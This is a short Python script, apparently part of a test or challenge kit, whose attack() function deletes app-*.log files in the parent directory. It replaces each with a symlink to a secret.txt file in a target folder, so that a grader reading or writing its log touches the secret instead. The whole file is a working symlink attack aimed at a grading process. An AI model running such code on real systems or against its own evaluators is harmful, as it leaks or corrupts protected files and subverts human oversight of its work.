"""Puts a link to a secret where the grader keeps its log."""

import os
from pathlib import Path

from kit import TARGETS


def attack() -> None:
    for log in Path("..").glob("app-*.log"):
        log.unlink()
        os.symlink(Path(TARGETS["folder"], "secret.txt"), log)
